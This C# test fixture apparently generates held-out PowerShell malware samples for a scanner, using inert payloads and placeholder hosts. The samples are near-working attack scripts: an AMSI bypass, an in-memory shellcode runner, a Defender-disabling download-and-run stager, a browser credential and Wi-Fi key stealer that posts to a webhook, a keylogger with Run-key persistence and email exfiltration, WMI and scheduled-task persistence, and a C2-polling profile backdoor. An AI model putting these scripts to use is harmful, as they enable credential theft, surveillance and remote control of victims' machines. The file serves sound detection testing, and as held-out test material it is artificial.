using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>PowerShell scripts that switch the script check off and run a program that never lies on disk; the programs are zeros or noise.</summary>
public sealed class PowerShellMemoryRunners : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("invoke-client.ps1", Dos(Fill("""
            [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
            $b64 = "@@1"
            $bytes = [System.Convert]::FromBase64String($b64)
            $asm = [System.Reflection.Assembly]::Load($bytes)
            $entry = $asm.EntryPoint
            $entry.Invoke($null, (, [string[]] ('-server', '192.0.2.9:443')))
            """, Convert.ToBase64String(InertFiles.Pe(1536))))),
        ("sc.ps1", Dos(Fill("""
            $code = @'
            using System;
            using System.Runtime.InteropServices;
            public class K {
                [DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
                [DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
                [DllImport("kernel32")] public static extern uint WaitForSingleObject(IntPtr h, uint ms);
            }
            '@
            Add-Type $code
            [Byte[]] $buf = @@1
            $size = $buf.Length
            $mem = [K]::VirtualAlloc([IntPtr]::Zero, $size, 0x3000, 0x40)
            [System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $mem, $size)
            $t = [K]::CreateThread([IntPtr]::Zero, 0, $mem, [IntPtr]::Zero, 0, [IntPtr]::Zero)
            [K]::WaitForSingleObject($t, [uint32]"0xFFFFFFFF") | Out-Null
            """, string.Join(',', Noise(320, 5).Prepend<byte>(0xC3).Select(value => $"0x{value:x2}"))))),
        ("stage2.ps1", Dos(Fill("""
            $u = 'System.Management.Automation.A' + 'msi' + 'Utils'
            $f = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('@@1'))
            [Ref].Assembly.GetType($u).GetField($f, [Reflection.BindingFlags]'NonPublic,Static').SetValue($null, $true)
            Set-MpPreference -DisableRealtimeMonitoring $true -ErrorAction SilentlyContinue
            $data = (New-Object Net.WebClient).DownloadData('http://203.0.113.14/favicon.ico')
            $key = [Text.Encoding]::UTF8.GetBytes('w1nter26')
            for ($i = 0; $i -lt $data.Length; $i++) { $data[$i] = $data[$i] -bxor $key[$i % $key.Length] }
            $a = [AppDomain]::CurrentDomain.Load($data)
            $m = $a.GetTypes() | ForEach-Object { $_.GetMethods('Public,Static') } | Where-Object Name -eq 'Run' | Select-Object -First 1
            $m.Invoke($null, @(, [string[]]@('443', 'gate.example')))
            """, Base64("amsiInitFailed")))),
        ("imagem.ps1", Dos(Fill("""
            $fonte = 'https://fotos-hospedagem.example/2026/ferias_0417.jpg'
            $cliente = New-Object System.Net.WebClient
            $bruto = $cliente.DownloadData($fonte)
            $texto = [System.Text.Encoding]::UTF8.GetString($bruto)
            $ini = '<<BASE64_START>>'; $fim = '<<BASE64_END>>'
            $a = $texto.IndexOf($ini); $b = $texto.IndexOf($fim)
            if ($a -ge 0 -and $b -gt $a) {
                $a += $ini.Length
                $pedaco = $texto.Substring($a, $b - $a).Replace('#', 'A')
                $carga = [System.Reflection.Assembly]::Load([System.Convert]::FromBase64String($pedaco))
                $tipo = $carga.GetType('ClassLibrary3.Class1')
                $metodo = $tipo.GetMethod('Run').Invoke($null, [object[]] ('@@1', 'desativado', 'RegAsm', 'desativado'))
            }
            """, Backwards("https://arquivos.example/base/txt/rem.txt")))),
    ];
}

/// <summary>PowerShell scripts that collect what belongs to the user, send it away, and come back at each start.</summary>
public sealed class PowerShellThieves : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("grab.ps1", Dos("""
            $hook = 'https://discord.com/api/webhooks/000000000000000000/not-a-real-token'
            $out = "$env:TEMP\$env:COMPUTERNAME"
            New-Item -ItemType Directory $out -Force | Out-Null
            $profiles = @{
                Chrome = "$env:LOCALAPPDATA\Google\Chrome\User Data"
                Edge   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
                Brave  = "$env:LOCALAPPDATA\BraveSoftware\Brave-Browser\User Data"
            }
            Stop-Process -Name chrome, msedge, brave -Force -ErrorAction SilentlyContinue
            foreach ($p in $profiles.GetEnumerator()) {
                Copy-Item "$($p.Value)\Default\Login Data" "$out\$($p.Key)_logins" -ErrorAction SilentlyContinue
                Copy-Item "$($p.Value)\Default\Network\Cookies" "$out\$($p.Key)_cookies" -ErrorAction SilentlyContinue
                Copy-Item "$($p.Value)\Local State" "$out\$($p.Key)_state" -ErrorAction SilentlyContinue
            }
            (netsh wlan show profiles) | Select-String ':\s(.+)$' | ForEach-Object {
                netsh wlan show profile name="$($_.Matches.Groups[1].Value)" key=clear
            } | Out-File "$out\wifi.txt"
            Get-Clipboard | Out-File "$out\clip.txt"
            Compress-Archive -Path $out -DestinationPath "$out.zip" -Force
            curl.exe -s -F "file=@$out.zip" -F "content=$env:USERNAME" $hook
            Remove-Item $out, "$out.zip" -Recurse -Force
            """)),
        ("kl.ps1", Dos("""
            Add-Type -TypeDefinition 'using System.Runtime.InteropServices; public class U { [DllImport("user32.dll")] public static extern short GetAsyncKeyState(int k); }'
            $log = "$env:APPDATA\Microsoft\winlog.dat"
            New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'WinLogSvc' -PropertyType String -Force `
                -Value "powershell -w hidden -ep bypass -file `"$PSCommandPath`"" | Out-Null
            $last = Get-Date
            while ($true) {
                Start-Sleep -Milliseconds 40
                foreach ($k in 8..254) {
                    if ([U]::GetAsyncKeyState($k) -eq -32767) { [IO.File]::AppendAllText($log, [char]$k) }
                }
                if (((Get-Date) - $last).TotalMinutes -gt 15) {
                    Send-MailMessage -From 'log@mailer.example' -To 'drop@mailer.example' -Subject "$env:USERNAME@$env:COMPUTERNAME" `
                        -Attachments $log -SmtpServer 'smtp.mailer.example' -Port 587 -UseSsl
                    Clear-Content $log
                    $last = Get-Date
                }
            }
            """)),
        ("maintenance.ps1", Dos(Fill("""
            $payload = '@@1'
            $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -EncodedCommand $payload"
            $trigger = New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 30)
            Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskMachineCore' -Action $action -Trigger $trigger -Settings (New-ScheduledTaskSettingsSet -Hidden) -Force
            $filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{
                Name = 'SCM Filter'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
                Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
            }
            $consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
                Name = 'SCM Consumer'; CommandLineTemplate = "powershell.exe -NoP -W Hidden -Enc $payload"
            }
            Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer }
            """, Encoded("IEX (irm 'https://node1.example/t')")))),
        ("ProfileTools.ps1", Dos("""
            # Small helpers for my console: colours, history, prompt
            function prompt { "PS $($PWD.Path)> " }
            $me = [ordered]@{ h = $env:COMPUTERNAME; u = $env:USERNAME; d = $env:USERDNSDOMAIN; v = [Environment]::OSVersion.VersionString }
            if (-not (Test-Path $PROFILE)) { New-Item $PROFILE -Force | Out-Null }
            if (-not (Select-String -Path $PROFILE -Pattern 'ProfileTools' -Quiet)) { Add-Content $PROFILE ". '$PSCommandPath' # ProfileTools" }
            $key = 'HKCU:\Software\Classes\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\InprocServer32'
            New-Item $key -Force -Value "$env:LOCALAPPDATA\Caches\thumb.dll" | Out-Null
            $null = Register-ObjectEvent -InputObject ([Timers.Timer]@{ Interval = 90000; Enabled = $true }) -EventName Elapsed -Action {
                $p = @{ Uri = 'https://sync.status-board.example/v2/ping'; Method = 'Post'; Body = ($Event.MessageData | ConvertTo-Json); ContentType = 'application/json' }
                $r = Invoke-RestMethod @p
                if ($r.task) { $o = . ([scriptblock]::Create($r.task)) 2>&1 | Out-String; Invoke-RestMethod -Uri "$($p.Uri)/$($r.id)" -Method Put -Body $o }
            } -MessageData $me
            """)),
    ];
}
